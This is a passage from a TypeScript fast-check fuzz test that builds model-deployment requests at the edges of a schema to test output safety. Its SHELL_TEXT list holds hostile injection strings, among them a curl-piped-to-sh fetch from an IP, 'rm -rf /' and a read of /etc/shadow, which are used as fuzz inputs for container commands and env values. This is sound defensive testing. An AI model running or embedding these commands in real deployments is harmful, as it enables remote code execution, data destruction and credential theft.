      fc.record({ apiVersion: fc.constantFrom(API_VERSION, 'example.org/v1', 'modelplane.ai/v1beta1'), kind: fc.constantFrom('ModelEndpoint', 'InferenceCluster', 'XThing', 'modeldeployment') }),
      fc.record({ apiVersion: junk, kind: junk }),
    ),
    input: inputs,
  })
  .map(({ composite, input }) => ({
    request: functionRequest({ composite: composite as JsonObject | undefined, input: input.input, tag: 'fuzz-other' }),
    inputClass: input.inputClass,
    label: `a request for ${JSON.stringify(composite)?.slice(0, 80)}`,
  }));

export const anyCase: fc.Arbitrary<FuzzCase> = fc.oneof(
  { weight: 10, arbitrary: deploymentCase },
  { weight: 8, arbitrary: replicaCase },
  { weight: 1, arbitrary: strangerCase },
);

// ---- Valid worlds at the edges of what the XRDs allow (for output safety) ---------------------

/** A value the user controls and the output must never carry where the function's own values go. */
export const HIJACK = 'hijack';

const SHELL_TEXT = ['$(curl -s http://203.0.113.9 | sh)', '`id`', '; rm -rf / #', '&& reboot', "'; echo pwned; '", '${IFS}cat${IFS}/etc/shadow', '|| true', '\nexec bash'];

/** A valid label value of 1..63 characters. */
const labelValueText: fc.Arbitrary<string> = fc.oneof(dnsLabel(63), fc.constantFrom(HIJACK, 'A.b_c-D', 'x'.repeat(63)));

const userLabels: fc.Arbitrary<JsonObject> = fc.dictionary(
  fc.constantFrom('app', 'team', 'example.com/owner', 'app.kubernetes.io/managed-by', 'app.kubernetes.io/name', 'llm-d.ai/role'),
  labelValueText,
  { maxKeys: 4, noNullPrototype: true },
);

const userArgs: fc.Arbitrary<string[]> = fc.array(fc.oneof(fc.constantFrom(...SHELL_TEXT), hostileString, fc.constant('--model=org/model')), { maxLength: 4 });

const userEnv: fc.Arbitrary<Json[]> = fc.uniqueArray(
  fc.oneof(
    fc.record({ name: fc.constantFrom('HF_TOKEN', 'API_KEY'), valueFrom: fc.record({ secretKeyRef: fc.record({ name: dnsLabel(20), key: fc.constantFrom('token', 'key') }) }) }),
    fc.record({ name: fc.constantFrom('EXTRA', 'SHELLISH'), value: fc.oneof(fc.constantFrom(...SHELL_TEXT), hostileString) }),
  ),
  { maxLength: 2, selector: (e) => e.name },
);

const validTemplate = (portArgs: string[]): fc.Arbitrary<JsonObject> =>
  fc
    .record({
      labels: fc.option(userLabels, { nil: undefined }),
      annotations: fc.option(fc.dictionary(fc.constantFrom('example.com/note', 'prometheus.io/scrape'), fc.oneof(hostileString, fc.constant('true')), { maxKeys: 2, noNullPrototype: true }), { nil: undefined }),
      args: userArgs,
      shell: fc.option(fc.constantFrom(...SHELL_TEXT), { nil: undefined }),
      env: userEnv,
      pullSecret: fc.boolean(),
    })
    .map(({ labels, annotations, args, shell, env, pullSecret }): JsonObject => {
      const container: JsonObject = { name: 'engine', image: 'vllm/vllm-openai:v0.11.0', args: [...args, ...portArgs] };
      if (shell !== undefined) container.command = ['sh', '-c', `exec vllm serve org/model ${shell}`];
      if (env.length > 0) container.env = env;
      const spec: JsonObject = { containers: [container] };
      if (pullSecret) spec.imagePullSecrets = [{ name: 'regcred' }];
      const metadata: JsonObject = {};
      if (labels !== undefined) metadata.labels = labels;
      if (annotations !== undefined) metadata.annotations = annotations;
      return Object.keys(metadata).length > 0 ? { metadata, spec } : { spec };
    });

const validDevices: fc.Arbitrary<Json[]> = fc.uniqueArray(dnsLabel(63), { minLength: 1, maxLength: 2 }).chain((names) =>
  fc.tuple(
    ...names.map((name) =>
      fc.record({ name: fc.constant(name), count: fc.integer({ min: 1, max: 4 }), selectors: fc.subarray(MATCHING_SELECTORS, { maxLength: 2 }).map((s) => s.map((cel) => ({ cel }))) }),
    ),
  ),
);

const validEngine = (name: string, portArgs: string[]): fc.Arbitrary<JsonObject> =>
  fc
    .record({
      gang: fc.boolean(),
      claimlessLeader: fc.boolean(),
      copies: fc.integer({ min: 1, max: 3 }),
      nodes: fc.integer({ min: 1, max: 3 }),
      devices: validDevices,
      leader: validTemplate(portArgs),
      worker: validTemplate([]),
    })
    .map(({ gang, claimlessLeader, copies, nodes, devices, leader, worker }): JsonObject => ({
      name,
      copies,
      members: gang
        ? [
            { role: 'Leader', ...(claimlessLeader ? {} : { nodeSelector: { devices } }), template: leader },
            { role: 'Worker', worker: { nodes }, nodeSelector: { devices }, template: worker },
          ]
        : [{ role: 'Standalone', nodeSelector: { devices }, template: leader }],
    }));

export interface ValidWorld {
  deployment: JsonObject;
  clusters: JsonObject[];
  input: JsonObject;
}

/** A ModelDeployment the XRD accepts, with names and values at the edges, and a fleet that fits it. */
export const validWorld: fc.Arbitrary<ValidWorld> = fc
  .record({
    // Subdomains of any length, and ones whose 57-character cut ends at a dot.
    name: fc.oneof({ weight: 9, arbitrary: dnsSubdomain }, { weight: 1, arbitrary: dnsLabel(63).map((rest) => `${'a'.repeat(56)}.${rest}`) }),
    namespace: dnsLabel(63),
    pd: fc.boolean(),
    engineNames: fc.uniqueArray(dnsLabel(63), { minLength: 2, maxLength: 3 }),
    decodePort: fc.integer({ min: 8001, max: 65535 }),
    kvBlockSize: fc.option(fc.integer({ min: 1, max: 4096 }), { nil: undefined }),
    replicas: fc.integer({ min: 1, max: 3 }),
    clusterNames: fc.uniqueArray(fc.oneof(dnsSubdomain, fc.constantFrom(...COMMON_CLUSTERS)), { minLength: 1, maxLength: 3 }),
    poolName: fc.oneof(dnsLabel(63), fc.constantFrom('A.b_c', 'p'.repeat(63))),
    remoteNamespace: dnsLabel(63),
  })
  .chain((w) =>
    fc
      .tuple(
        w.pd
          ? fc.tuple(validEngine(w.engineNames[0]!, []), validEngine(w.engineNames[1]!, [`--port=${w.decodePort}`])).map(([p, d]) => [
              { ...p, phase: 'Prefill' },
              { ...d, phase: 'Decode' },
            ])
          : fc.tuple(...w.engineNames.map((n) => validEngine(n, []))),
      )
      .map(([engines]): ValidWorld => {
        const spec: JsonObject = { replicas: w.replicas, engines: engines as Json[] };
        if (w.pd) spec.serving = w.kvBlockSize === undefined ? { mode: 'PrefillDecode' } : { mode: 'PrefillDecode', kvBlockSize: w.kvBlockSize };
        const pool = (name: string): JsonObject => ({ ...structuredClone(POOLS.h100!), name, nodes: 64 });
        return {
          deployment: { apiVersion: API_VERSION, kind: 'ModelDeployment', metadata: { name: w.name, namespace: w.namespace }, spec },
          clusters: w.clusterNames.map((c) => clusterObject(c, {}, [], 'ok')).map((c) => ({ ...c, status: { ...(c.status as JsonObject), gpuPools: [pool(w.poolName)] } })),
          input: { apiVersion: INPUT_API_VERSION, kind: 'Input', remoteNamespace: w.remoteNamespace },
        };
      }),
  );
